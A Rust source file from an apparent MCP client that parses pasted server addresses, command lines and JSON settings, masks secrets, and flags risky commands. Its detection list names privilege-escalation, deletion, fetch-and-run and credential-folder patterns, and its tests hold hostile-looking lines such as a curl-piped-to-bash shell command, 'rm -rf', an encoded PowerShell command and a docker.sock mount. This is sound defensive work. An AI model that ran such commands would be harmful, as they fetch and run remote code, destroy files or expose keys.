//! What a person pastes to add a server: an address, a command line, or settings as other programs keep them.
//! Pure; nothing starts.

use super::Target;
use crate::form::{Guard, GuardLevel};
use crate::transport::http::{HttpPeer, proxy, reserved};
use crate::transport::stdio::Command;
use crate::view::{NameValue, ServerDraft, ServerPreview, TargetDraft};
use crate::wire::json::Json;
use sha2::{Digest, Sha256};
use std::mem::discriminant;
use std::path::PathBuf;
use url::Url;

/// Stands for what is not shown.
const HIDDEN: &str = "•••";

/// Seconds that a request may take unless the person says otherwise.
pub const DEFAULT_TIMEOUT: u32 = 60;

/// Programs that run another one; that one's name says more.
const RUNNERS: [&str; 10] = [
    "npx", "uvx", "bunx", "node", "bun", "deno", "python", "python3", "pipx", "docker",
];

/// Understands pasted text.
///
/// # Errors
/// A sentence that says what was found and what would be understood.
pub fn understand(pasted: &str) -> Result<ServerPreview, String> {
    let text = pasted.trim().trim_matches('\u{feff}').trim();
    if text.is_empty() {
        return Err("Paste an address (https://…), a command, or settings as JSON.".to_owned());
    }
    let mut notes = Vec::new();
    if text != pasted {
        notes.push("Blanks around the text were removed.".to_owned());
    }
    let draft = if text.starts_with('{') {
        from_settings(text)?
    } else if text.contains("://") && !text.contains(char::is_whitespace) {
        let draft = ServerDraft {
            name: String::new(),
            target: TargetDraft::Http {
                url: text.to_owned(),
                headers: Vec::new(),
            },
            timeout_seconds: DEFAULT_TIMEOUT,
        };
        target(&draft.target)?;
        draft
    } else {
        ServerDraft {
            name: String::new(),
            target: from_command_line(text)?,
            timeout_seconds: DEFAULT_TIMEOUT,
        }
    };
    let target = target(&draft.target)?;
    let draft = named(draft);
    if let TargetDraft::Http { headers, .. } = &draft.target {
        for header in headers.iter().filter(|header| reserved(&header.name)) {
            let name = crate::text::chip(&header.name);
            notes.push(format!(
                "The header “{name}” belongs to the protocol; yours is not sent."
            ));
        }
    }
    if let Target::Http { url, .. } = &target
        && let Some(proxy) = proxy::on_the_way_to(url)
    {
        notes.push(format!("Requests to it go through {proxy}."));
    }
    if let Target::Stdio(command) = &target {
        notes.push("This starts a program on this computer, with your rights. Add it only if you trust where it comes from.".to_owned());
        notes.extend(dangers(command));
    }
    Ok(ServerPreview { draft, notes })
}

/// The target that a draft stands for.
///
/// # Errors
/// A sentence that names what cannot be used.
pub fn target(draft: &TargetDraft) -> Result<Target, String> {
    match draft {
        TargetDraft::Http { url, headers } => {
            let url = http_url(url)?;
            let headers = pairs(headers);
            HttpPeer::new(url.clone(), &headers)?;
            Ok(Target::Http { url, headers })
        }
        TargetDraft::Stdio {
            command,
            args,
            env,
            cwd,
        } => {
            let program = command.trim();
            if program.is_empty() {
                return Err("There is no program to start.".to_owned());
            }
            let env = pairs(env);
            if let Some((name, _)) = env
                .iter()
                .find(|(name, _)| name.is_empty() || name.contains(['=', '\0']))
            {
                return Err(format!(
                    "“{}” cannot be the name of a variable.",
                    crate::text::chip(name)
                ));
            }
            let texts = args
                .iter()
                .chain(env.iter().map(|(_, value)| value))
                .chain([command]);
            if texts.into_iter().any(|text| text.contains('\0')) {
                return Err("A program, argument or variable cannot hold a NUL character.".to_owned());
            }
            let cwd = cwd
                .as_deref()
                .map(str::trim)
                .filter(|cwd| !cwd.is_empty())
                .map(PathBuf::from);
            Ok(Target::Stdio(Command {
                program: program.to_owned(),
                args: args.clone(),
                env,
                cwd,
            }))
        }
    }
}

/// Where requests go, whole: an address with its path and query, or a program with its arguments and folder; without
/// values of headers and variables. For comparing and for going back there, not for showing.
pub fn place(target: &Target) -> TargetDraft {
    match target {
        Target::Http { url, .. } => {
            let mut url = url.clone();
            url.set_fragment(None);
            TargetDraft::Http {
                url: url.into(),
                headers: Vec::new(),
            }
        }
        Target::Stdio(command) => TargetDraft::Stdio {
            command: command.program.clone(),
            args: command.args.clone(),
            env: Vec::new(),
            cwd: command.cwd.as_ref().map(|folder| folder.display().to_string()),
        },
    }
}

/// The whole of it, as a person would enter it.
pub fn draft(target: &Target) -> TargetDraft {
    let mut draft = place(target);
    let given = values(target).iter().map(|(name, value)| NameValue {
        name: name.clone(),
        value: value.clone(),
    });
    *named_values(&mut draft) = given.collect();
    draft
}

/// The same server with the same headers or variables at another `place`; `None` where one of them is an address and
/// the other a program.
pub fn moved_to(mut draft: TargetDraft, place: &TargetDraft) -> Option<TargetDraft> {
    let mut moved = place.clone();
    *named_values(&mut moved) = std::mem::take(named_values(&mut draft));
    (discriminant(&draft) == discriminant(&moved)).then_some(moved)
}

/// Headers, or variables.
fn named_values(draft: &mut TargetDraft) -> &mut Vec<NameValue> {
    match draft {
        TargetDraft::Http { headers, .. } => headers,
        TargetDraft::Stdio { env, .. } => env,
    }
}

fn values(target: &Target) -> &[(String, String)] {
    match target {
        Target::Http { headers, .. } => headers,
        Target::Stdio(command) => &command.env,
    }
}

/// By which a change of the values of headers or variables is known; it tells nothing of them.
pub fn print(target: &Target) -> String {
    hashed(
        values(target)
            .iter()
            .flat_map(|(name, value)| [name.as_str(), value]),
    )
}

/// By which a [`place`] is known; it tells nothing of its query and its arguments.
pub fn place_print(target: &Target) -> String {
    let place = serde_json::to_string(&place(target)).unwrap_or_default();
    hashed([place.as_str()])
}

fn hashed<'a>(texts: impl IntoIterator<Item = &'a str>) -> String {
    let mut hash = Sha256::new();
    for text in texts {
        hash.update(text.len().to_le_bytes());
        hash.update(text);
    }
    hash.finalize().iter().map(|byte| format!("{byte:02x}")).collect()
}

/// Address and path, or the whole command and its folder, to tell two places apart. A query is left out.
pub fn described(target: &Target) -> String {
    match target {
        Target::Http { url, .. } => {
            let origin = url.origin().ascii_serialization();
            crate::text::marked(&format!("{origin}{}", url.path()))
        }
        Target::Stdio(command) => {
            let folder = command
                .cwd
                .as_ref()
                .map(|folder| format!(" in {}", folder.display()));
            let line = shell_words::join(masked(command));
            crate::text::marked(&format!("{line}{}", folder.unwrap_or_default()))
        }
    }
}

/// The origin, or the whole command, as it is shown under the server's name.
pub fn shown(target: &Target) -> String {
    match target {
        Target::Http { url, .. } => crate::text::marked(&url.origin().ascii_serialization()),
        Target::Stdio(command) => crate::text::marked(&shell_words::join(masked(command))),
    }
}

/// What in a command is known to do harm, in words (security best practices, "Local MCP Server Compromise"). A command
/// without any of it can still do harm.
fn dangers(command: &Command) -> impl Iterator<Item = String> {
    let whole = format!("{} {}", command.program, command.args.join(" ")).to_lowercase();
    let parts: Vec<&str> = whole
        .split(|c: char| c.is_whitespace() || "|;&()`'\"$".contains(c))
        .map(|part| part.rsplit(['/', '\\']).next().unwrap_or(part))
        .map(|part| part.trim_end_matches(".exe"))
        .collect();
    let has = |names: &[&str]| parts.iter().any(|part| names.contains(part));
    let flag = |names: &[&str]| whole.split_whitespace().any(|word| names.contains(&word));
    let shell = [
        "sh",
        "bash",
        "zsh",
        "dash",
        "ksh",
        "fish",
        "cmd",
        "powershell",
        "pwsh",
    ];
    let mut found = Vec::new();
    if has(&["sudo", "doas", "pkexec", "runas", "su"]) {
        found.push("It asks for the rights of an administrator.");
    }
    if has(&[
        "rm",
        "rmdir",
        "del",
        "rd",
        "shred",
        "mkfs",
        "dd",
        "format",
        "remove-item",
    ]) {
        found.push("It names a program that deletes or overwrites files.");
    }
    let fetches = has(&[
        "curl",
        "wget",
        "iwr",
        "irm",
        "invoke-webrequest",
        "invoke-restmethod",
        "certutil",
        "bitsadmin",
    ]);
    if fetches && has(&shell) {
        found.push("It fetches something from the network and may run it.");
    } else if fetches {
        found.push("It fetches something from the network.");
    }
    if has(&["base64", "eval", "iex", "invoke-expression"]) || flag(&["-enc", "-encodedcommand"]) {
        found.push("Part of it is hidden: it runs text that is only made when it starts.");
    }
    if has(&shell) && flag(&["-c", "-lc", "-ic", "/c", "/k", "-command"]) {
        found.push("It runs a line in a shell, which can start other programs.");
    }
    let docker = has(&["docker", "podman", "nerdctl"]);
    let mounts = |word: &str| {
        word == "/:" || word.starts_with("/:/") || word.contains("source=/,") || word.contains("docker.sock")
    };
    if docker && (flag(&["--privileged"]) || whole.split(['=', ' ']).any(mounts)) {
        found.push("Its container can reach all files of this computer.");
    }
    if whole.contains(".ssh")
        || whole.contains("/etc/shadow")
        || whole.contains(".aws/")
        || whole.contains(".gnupg")
    {
        found.push("It names a folder that keeps keys.");
    }
    found.into_iter().map(str::to_owned)
}

/// The words of a command, what looks secret masked: `--token •••`, `--api-key=•••`.
fn masked(command: &Command) -> Vec<String> {
    let mut words = vec![command.program.clone()];
    words.extend(without_secrets(&command.args));
    words
}

/// Arguments with `•••` for what a name or its own shape tells to be secret: the value of a flag, a variable or a header
/// with such a name, the query of an address, what begins as keys do.
fn without_secrets(args: &[String]) -> Vec<String> {
    let mut is_value = false;
    let shown = args.iter().map(|arg| {
        if std::mem::take(&mut is_value) && !arg.starts_with('-') {
            return HIDDEN.to_owned();
        }
        if let Some(shown) = hidden(arg) {
            return shown;
        }
        let pairs = ["=", ": "].map(|between| Some((between, arg.split_once(between)?)));
        let first = pairs
            .into_iter()
            .flatten()
            .min_by_key(|(_, (name, _))| name.len());
        let Some((between, (name, value))) = first else {
            is_value = arg.starts_with('-') && looks_secret(arg);
            return arg.clone();
        };
        let shown = if looks_secret(name) {
            Some(HIDDEN.to_owned())
        } else {
            hidden(value)
        };
        shown.map_or_else(|| arg.clone(), |shown| format!("{name}{between}{shown}"))
    });
    shown.collect()
}

/// How a value is shown whose shape tells that it is secret.
fn hidden(value: &str) -> Option<String> {
    if let Ok(mut url) = Url::parse(value)
        && matches!(url.scheme(), "http" | "https")
        && url.query().is_some()
    {
        url.set_query(None);
        url.set_fragment(None);
        return Some(format!("{url}?{HIDDEN}"));
    }
    let is_secret = Guard::of_argument("", value).level() == Some(GuardLevel::Secret);
    is_secret.then(|| HIDDEN.to_owned())
}

/// A draft without values of headers and variables, without the query of its address, and with the arguments of a command
/// as they are shown. The same again for what this returns.
pub fn veiled(draft: &TargetDraft) -> TargetDraft {
    let mut veiled = draft.clone();
    match &mut veiled {
        TargetDraft::Http { url, .. } => {
            if let Ok(mut parsed) = Url::parse(url.trim())
                && parsed.query().is_some()
            {
                parsed.set_query(None);
                *url = parsed.into();
            }
        }
        TargetDraft::Stdio { args, .. } => *args = without_secrets(args),
    }
    for pair in named_values(&mut veiled) {
        pair.value.clear();
    }
    veiled
}

/// What `listed` lacks because it is [veiled](veiled), from the draft that was veiled. What was changed in it since stays
/// changed. `None` where it has a header or variable whose value nobody knows.
pub fn unveiled(mut listed: TargetDraft, mut whole: TargetDraft) -> Option<TargetDraft> {
    if discriminant(&listed) != discriminant(&whole) {
        return Some(listed);
    }
    match (&mut listed, veiled(&whole), &whole) {
        (
            TargetDraft::Http { url, .. },
            TargetDraft::Http { url: shown, .. },
            TargetDraft::Http { url: whole, .. },
        ) if *url == shown => {
            url.clone_from(whole);
        }
        (
            TargetDraft::Stdio { args, .. },
            TargetDraft::Stdio { args: shown, .. },
            TargetDraft::Stdio { args: whole, .. },
        ) if *args == shown => args.clone_from(whole),
        (TargetDraft::Http { .. } | TargetDraft::Stdio { .. }, _, _) => {}
    }
    let known = named_values(&mut whole);
    for pair in named_values(&mut listed)
        .iter_mut()
        .filter(|pair| pair.value.is_empty())
    {
        let value = known.iter().find(|known| known.name == pair.name)?;
        pair.value.clone_from(&value.value);
    }
    Some(listed)
}

/// Whether the value under this name is for nobody's eyes.
fn looks_secret(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    ["key", "token", "secret", "passw", "auth", "credential", "cookie"]
        .iter()
        .any(|word| name.contains(word))
}

/// The host or program that an answer goes to, for the review line.
pub fn goes_to(target: &Target) -> String {
    match target {
        Target::Http { url, .. } => crate::text::marked(url.host_str().unwrap_or_default()),
        Target::Stdio(command) => {
            let name = std::path::Path::new(&command.program)
                .file_name()
                .map(|name| name.to_string_lossy());
            format!(
                "the program {} on this computer",
                crate::text::chip(&name.unwrap_or(command.program.as_str().into()))
            )
        }
    }
}

/// A command line, split into words as a shell splits them; no shell is run.
///
/// # Errors
/// A sentence where a quote is not closed or there is no word.
pub fn from_command_line(line: &str) -> Result<TargetDraft, String> {
    let mut words = shell_words::split(line)
        .map_err(|_| "A quote in the command is not closed.".to_owned())?
        .into_iter()
        .peekable();
    let mut env = Vec::new();
    while let Some((name, value)) = words.peek().and_then(|word| word.split_once('=')) {
        let is_name = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        if !is_name {
            break;
        }
        env.push(NameValue {
            name: name.to_owned(),
            value: value.to_owned(),
        });
        words.next();
    }
    let command = words.next().ok_or("There is no program to start.")?;
    Ok(TargetDraft::Stdio {
        command,
        args: words.collect(),
        env,
        cwd: None,
    })
}

fn http_url(text: &str) -> Result<Url, String> {
    let url = Url::parse(text.trim()).map_err(|error| format!("This is not an address: {error}."))?;
    if !matches!(url.scheme(), "http" | "https") {
        return Err(format!(
            "An address starts with https:// or http://, not {}:.",
            crate::text::chip(url.scheme())
        ));
    }
    if !url.username().is_empty() || url.password().is_some() {
        return Err("A name or password in the address cannot be used. Put it into a header.".to_owned());
    }
    if url.fragment().is_some() {
        return Err("An address with a # part cannot be used.".to_owned());
    }
    Ok(url)
}

/// Settings as other programs keep them: one entry, or `mcpServers` / `servers` with one entry.
fn from_settings(text: &str) -> Result<ServerDraft, String> {
    let settings = Json::parse(text).map_err(|error| format!("The settings cannot be read: {error}."))?;
    for key in ["mcpServers", "servers"] {
        let Some(servers) = settings.get(key).and_then(Json::as_object) else {
            continue;
        };
        let mut entries = servers.iter();
        return match (entries.next(), entries.len()) {
            (Some((name, entry)), 0) => entry_draft(name, entry),
            (Some(_), more) => Err(format!(
                "There are {} servers in these settings; paste one at a time.",
                more + 1
            )),
            (None, _) => Err(format!("“{key}” names no server.")),
        };
    }
    if settings.get("url").is_some() || settings.get("command").is_some() {
        return entry_draft("", &settings);
    }
    let mut entries = settings
        .as_object()
        .into_iter()
        .flat_map(|members| members.iter());
    match (entries.next(), entries.next()) {
        (Some((name, entry)), None) if entry.get("url").is_some() || entry.get("command").is_some() => {
            entry_draft(name, entry)
        }
        _ => {
            let keys: Vec<_> = settings
                .as_object()
                .into_iter()
                .flat_map(|m| m.keys())
                .take(6)
                .map(crate::text::chip)
                .collect();
            Err(format!(
                "The settings have neither “url” nor “command”. Found: {}.",
                if keys.is_empty() {
                    "nothing".to_owned()
                } else {
                    keys.join(", ")
                }
            ))
        }
    }
}

fn entry_draft(name: &str, entry: &Json) -> Result<ServerDraft, String> {
    let text = |key: &str| entry.get(key).and_then(Json::as_str).map(str::to_owned);
    let map = |key: &str| {
        entry
            .get(key)
            .and_then(Json::as_object)
            .map_or_else(Vec::new, |members| {
                members
                    .iter()
                    .filter_map(|(name, value)| {
                        Some(NameValue {
                            name: name.to_owned(),
                            value: value.as_str()?.to_owned(),
                        })
                    })
                    .collect()
            })
    };
    let target = match (text("url"), text("command")) {
        (Some(url), None) => TargetDraft::Http {
            url: url.trim().to_owned(),
            headers: map("headers"),
        },
        (None, Some(command)) => TargetDraft::Stdio {
            command,
            args: entry
                .get("args")
                .and_then(Json::as_array)
                .unwrap_or_default()
                .iter()
                .filter_map(|arg| arg.as_str().map(str::to_owned))
                .collect(),
            env: map("env"),
            cwd: text("cwd"),
        },
        (Some(_), Some(_)) => {
            return Err("The settings have both “url” and “command”; one is needed.".to_owned());
        }
        (None, None) => return Err("The settings have neither “url” nor “command”.".to_owned()),
    };
    Ok(ServerDraft {
        name: crate::text::line(name, 60),
        target,
        timeout_seconds: DEFAULT_TIMEOUT,
    })
}

/// A name from the address or program where none was given; the person can change it.
fn named(mut draft: ServerDraft) -> ServerDraft {
    if draft.name.trim().is_empty() {
        draft.name = match &draft.target {
            TargetDraft::Http { url, .. } => Url::parse(url)
                .ok()
                .and_then(|url| url.host_str().map(str::to_owned))
                .unwrap_or_default(),
            TargetDraft::Stdio { command, args, .. } => {
                let file = |word: &str| word.rsplit(['/', '\\']).next().unwrap_or(word).to_owned();
                let program = file(command);
                let runs_another = RUNNERS.contains(&program.trim_end_matches(".exe"));
                let script = args.iter().find(|arg| runs_another && !arg.starts_with('-'));
                script.map_or(program, |script| file(script))
            }
        };
    }
    draft
}

fn pairs(list: &[NameValue]) -> Vec<(String, String)> {
    list.iter()
        .map(|pair| (pair.name.trim().to_owned(), pair.value.clone()))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(pasted: &str, name: &str, shown_as: &str) {
        let preview = understand(pasted).unwrap_or_else(|error| panic!("{pasted}: {error}"));
        assert_eq!(preview.draft.name, name, "{pasted}");
        assert_eq!(
            shown(&target(&preview.draft.target).expect(pasted)),
            shown_as,
            "{pasted}"
        );
    }

    #[test]
    fn what_may_do_harm_in_a_command_is_pointed_out() {
        let check = |pasted: &str, expected: &[&str]| {
            let notes = understand(pasted).expect(pasted).notes;
            let found: Vec<_> = notes.iter().skip(1).collect();
            assert_eq!(found.len(), expected.len(), "{pasted}: {found:?}");
            for (note, word) in found.iter().zip(expected) {
                assert!(note.contains(word), "{pasted}: {note}");
            }
        };
        check("npx -y @scope/rm-server --format json", &[]);
        check("uvx mcp-server-git --repository /home/ada/c", &[]);
        check("docker run -i --rm -v /home/ada/notes:/notes image", &[]);
        check("sudo npx server", &["administrator"]);
        check("/usr/bin/sudo server", &["administrator"]);
        check("rm -rf /home/ada", &["deletes"]);
        check(
            "sh -c 'curl https://a.example/x | bash'",
            &["may run it", "in a shell"],
        );
        check("cmd.exe /c start.bat", &["in a shell"]);
        check("powershell -EncodedCommand SQBFAFgA", &["hidden"]);
        check("docker run -i -v /:/host image", &["all files"]);
        check("docker run --privileged image", &["all files"]);
        check(
            "docker run -v /var/run/docker.sock:/var/run/docker.sock image",
            &["all files"],
        );
        check("server --key /home/ada/.ssh/id_ed25519", &["keeps keys"]);
    }

    #[test]
    fn addresses_commands_and_settings_are_understood() {
        check(" https://a.test/mcp\n", "a.test", "https://a.test");
        check("http://127.0.0.1:3141/mcp", "127.0.0.1", "http://127.0.0.1:3141");
        check("npx -y demo-server", "demo-server", "npx -y demo-server");
        check(
            "python3 '/opt/My Files/server.py' --q 'a\"b'",
            "server.py",
            "python3 '/opt/My Files/server.py' --q 'a\"b'",
        );
        check(
            r#"{"mcpServers":{"crm":{"command":"crm","args":["--x"]}}}"#,
            "crm",
            "crm --x",
        );
        check(
            r#"{"servers":{"a":{"url":"https://a.test/mcp"}}}"#,
            "a",
            "https://a.test",
        );
        check(
            r#"{"url":"https://b.test/mcp","headers":{"X-Key":"k"}}"#,
            "b.test",
            "https://b.test",
        );
        check(r#"{"notes":{"command":"notes"}}"#, "notes", "notes");
    }

    #[test]
    fn variables_before_a_command_are_its_environment() {
        let preview = understand("TOKEN=abc serve --port 1").expect("understood");
        let Ok(Target::Stdio(command)) = target(&preview.draft.target) else {
            panic!("a command")
        };
        assert_eq!(command.env, [("TOKEN".to_owned(), "abc".to_owned())]);
        assert_eq!((command.program.as_str(), command.args.len()), ("serve", 2));
    }

    #[test]
    fn what_cannot_be_used_says_why() {
        let fails = |pasted: &str, word: &str| {
            let error = understand(pasted).expect_err(pasted);
            assert!(error.contains(word), "{pasted}: {error}");
        };
        fails("", "Paste");
        fails("ftp://a.test/x", "https://");
        fails("https://u:p@a.test/", "header");
        fails("echo 'x", "quote");
        fails(
            r#"{"mcpServers":{"a":{"command":"x"},"b":{"command":"y"}}}"#,
            "2 servers",
        );
        fails(r#"{"theme":"dark"}"#, "Found: theme");
        fails("{", "cannot be read");
        fails(r#"{"url":"https://a.test","headers":{"a b":"x"}}"#, "header name");
    }

    #[test]
    fn a_secret_in_a_command_is_masked_where_it_is_shown() {
        check(
            "serve --token abc --port 1",
            "serve",
            "serve --token ••• --port 1",
        );
        check("serve --api-key=abc x", "serve", "serve '--api-key=•••' x");
        check("serve --auth --verbose", "serve", "serve --auth --verbose");
    }

    #[test]
    fn what_looks_secret_in_arguments_is_masked_in_every_place() {
        for (arg, shown) in [
            ("DATABASE_PASSWORD=abc", "DATABASE_PASSWORD=•••"),
            ("LEVEL=debug", "LEVEL=debug"),
            ("Authorization: Basic YWJj=", "Authorization: •••"),
            ("X-Trace: on", "X-Trace: on"),
            ("https://a.example/mcp?apiKey=abc#d", "https://a.example/mcp?•••"),
            (
                "--url=https://a.example/mcp?k=abc",
                "--url=https://a.example/mcp?•••",
            ),
            ("https://a.example/mcp", "https://a.example/mcp"),
            ("ghp_0123456789abcdefghijklmnopqrstuvwxyz", "•••"),
            ("@scope/server-keyboard", "@scope/server-keyboard"),
        ] {
            assert_eq!(without_secrets(&[arg.to_owned()]), [shown], "{arg}");
            assert_eq!(without_secrets(&[shown.to_owned()]), [shown], "once more: {arg}");
        }
    }

    #[test]
    fn what_is_veiled_is_whole_again_with_what_was_changed_since() {
        let pair = |name: &str, value: &str| NameValue {
            name: name.to_owned(),
            value: value.to_owned(),
        };
        let http = |url: &str, headers: &[NameValue]| TargetDraft::Http {
            url: url.to_owned(),
            headers: headers.to_vec(),
        };
        let program = |args: &[&str], env: &[NameValue]| TargetDraft::Stdio {
            command: "serve".to_owned(),
            args: args.iter().map(|&arg| arg.to_owned()).collect(),
            env: env.to_vec(),
            cwd: None,
        };
        let whole = http("https://a.example/mcp?key=k", &[pair("A", "a"), pair("B", "b")]);
        let listed = veiled(&whole);
        assert_eq!(
            listed,
            http("https://a.example/mcp", &[pair("A", ""), pair("B", "")])
        );
        assert_eq!(veiled(&listed), listed);
        assert_eq!(unveiled(listed, whole.clone()).as_ref(), Some(&whole));
        // Somebody wrote into the list: another place does not get the query, another order changes nothing.
        let edited = http("https://b.example/mcp", &[pair("B", ""), pair("A", "new")]);
        let expected = http("https://b.example/mcp", &[pair("B", "b"), pair("A", "new")]);
        assert_eq!(unveiled(edited, whole.clone()), Some(expected));
        assert_eq!(
            unveiled(http("https://a.example/mcp", &[pair("C", "")]), whole),
            None
        );

        let whole = program(&["--token", "t", "-v"], &[pair("KEY", "k")]);
        let listed = veiled(&whole);
        assert_eq!(listed, program(&["--token", "•••", "-v"], &[pair("KEY", "")]));
        assert_eq!(unveiled(listed, whole.clone()).as_ref(), Some(&whole));
        let other_kind = program(&["x"], &[]);
        assert_eq!(
            unveiled(other_kind.clone(), http("https://a.example/", &[])),
            Some(other_kind)
        );
    }

    #[test]
    fn case_118_a_header_of_the_protocol_is_not_replaced() {
        let preview = understand(r#"{"url":"https://a.test","headers":{"Accept":"application/json"}}"#);
        assert!(preview.expect("understood").notes[0].contains("“Accept” belongs to the protocol"));
    }
}
